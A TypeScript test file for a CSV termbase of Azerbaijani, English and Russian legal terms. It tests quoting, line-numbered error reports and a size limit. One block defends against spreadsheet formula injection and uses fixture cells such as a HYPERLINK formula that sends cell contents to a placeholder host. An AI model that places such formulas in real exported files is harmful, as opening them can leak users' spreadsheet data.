import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { readTermsCsv, writeTermsCsv } from '../../core/translate/termbase-csv';
import type { TermInput } from '../../core/translate/termbase';
import { MAX_TERM_CHARS } from '../../core/limits';
import { tempDir } from '../helpers/temp-dir';

const TERMS: TermInput[] = [
  {
    az: 'Baş prokuror',
    en: 'Prosecutor General',
    ru: 'Генеральный прокурор',
    note: 'Title before a name: "Baş prokuror Kamran Əliyev", capitalised.\nSecond line, with a comma.',
    forbidden: { en: ['General Prosecutor', 'Attorney General'], ru: ['генпрокурор'] },
  },
  { az: 'qarşılıqlı hüquqi yardım', en: 'mutual legal assistance', ru: 'взаимная правовая помощь' },
  { az: 'ŞƏKİ, ĞÖÜÇ; ı i İ ə', en: 'Sheki "quoted"', ru: 'Шеки, ёЁ ъЪ' },
  // Only two languages: allowed.
  { az: 'şahid', en: 'witness', ru: '' },
];

describe('termbase CSV', () => {
  it('writes the header, a BOM and CRLF, and quotes only what needs it', () => {
    const csv = writeTermsCsv(TERMS);
    expect(csv.startsWith('\uFEFFaz,en,ru,note,forbidden_az,forbidden_en,forbidden_ru\r\n')).toBe(true);
    expect(csv).toContain('\r\nqarşılıqlı hüquqi yardım,mutual legal assistance,взаимная правовая помощь,,,,\r\n');
    expect(csv).toContain('"ŞƏKİ, ĞÖÜÇ; ı i İ ə","Sheki ""quoted""","Шеки, ёЁ ъЪ"');
    expect(csv).toContain(',General Prosecutor|Attorney General,генпрокурор\r\n');
  });

  it('reads back what it wrote, through a file', () => {
    const path = join(tempDir(), 'terms.csv');
    writeFileSync(path, writeTermsCsv(TERMS), 'utf8');
    const read = readTermsCsv(readFileSync(path, 'utf8'));
    expect(read.problems).toEqual([]);
    expect(read.terms).toEqual(TERMS);
  });

  it('reads a file without a BOM, with LF, columns reordered and semicolons as Excel saves them', () => {
    const csv = 'RU;AZ;EN\nГенеральный прокурор;Baş prokuror;Prosecutor General\n"уголовное; дело";cinayət işi;criminal case\n';
    expect(readTermsCsv(csv)).toEqual({
      terms: [
        { az: 'Baş prokuror', en: 'Prosecutor General', ru: 'Генеральный прокурор' },
        { az: 'cinayət işi', en: 'criminal case', ru: 'уголовное; дело' },
      ],
      problems: [],
    });
  });

  it('reports bad rows by line and keeps the good ones around them', () => {
    const csv = [
      'az,en,ru,note',
      'prokuror,prosecutor,прокурор,',
      ',witness,свидетель,', // line 3: no Azerbaijani
      'şahid,"witness, key",свидетель,"a note',
      'over two lines"', // the row of line 4 ends here
      'hakim,,,', // line 6: no translation
      'a,b,c,d,e', // line 7: more fields than the header
      '',
      'prokuror,prosecutor,прокурор,again', // line 9: the same term as line 2
      'ittiham,"charge,accusation', // line 10: a quote never closed
      'cəza,penalty,наказание,',
    ].join('\r\n');
    const read = readTermsCsv(csv);
    expect(read.terms).toEqual([
      { az: 'prokuror', en: 'prosecutor', ru: 'прокурор' },
      { az: 'şahid', en: 'witness, key', ru: 'свидетель', note: 'a note\r\nover two lines' },
      { az: 'cəza', en: 'penalty', ru: 'наказание' },
    ]);
    expect(read.problems.map((p) => p.line)).toEqual([3, 6, 7, 9, 10]);
    expect(read.problems.map((p) => p.reason)).toEqual([
      'no Azerbaijani term',
      'neither an English nor a Russian translation',
      '5 fields, but the header has 4',
      'the same term as on line 2',
      'a quoted field is never closed',
    ]);
  });

  it('refuses a file whose header lacks a language', () => {
    expect(readTermsCsv('term,translation\nprokuror,prosecutor\n')).toEqual({
      terms: [],
      problems: [{ line: 1, reason: 'the header lacks the columns az, en, ru' }],
    });
    expect(readTermsCsv('az,en\nprokuror,prosecutor\n').problems).toEqual([{ line: 1, reason: 'the header lacks the column ru' }]);
  });
});

describe('cells a spreadsheet would evaluate', () => {
  const hostile: TermInput[] = [
    { az: '=HYPERLINK("http://x.example/?"&A1,"bax")', en: '+1+1', ru: '-2+3' },
    { az: '@SUM(1)', en: '\tcmd', ru: "'=already quoted" },
    { az: "'s-Hertogenbosch", en: 'ordinary', ru: 'обычный', forbidden: { en: ['=BAD()', 'fine'] } },
  ];

  it('are written behind an apostrophe, so no cell starts with a formula character', () => {
    const rows = writeTermsCsv(hostile)
      .replace(/^\uFEFF/, '')
      .split('\r\n')
      .slice(1, -1);
    const cells = rows.flatMap((row) => row.split(',')).map((cell) => cell.replace(/^"/, ''));
    for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    expect(rows[0].startsWith(`"'=HYPERLINK`)).toBe(true);
  });

  it('read back from our own file exactly as they were', () => {
    const read = readTermsCsv(writeTermsCsv(hostile));
    expect(read.problems).toEqual([]);
    expect(read.terms).toEqual(hostile.map((term) => ({ ...term, en: term.en.trim(), ru: term.ru.trim(), az: term.az.trim() })));
  });
});

describe('a term beyond the limit', () => {
  it('is refused with the line named, however long (7 MB)', () => {
    const long = 'ə'.repeat(7 * 1024 * 1024);
    const read = readTermsCsv(`az,en,ru\r\n${long},x,y\r\nqısa,short,короткий\r\n`);
    expect(read.terms).toEqual([{ az: 'qısa', en: 'short', ru: 'короткий' }]);
    expect(read.problems).toEqual([{ line: 2, reason: `a term longer than ${MAX_TERM_CHARS} characters, the limit` }]);
  });
});
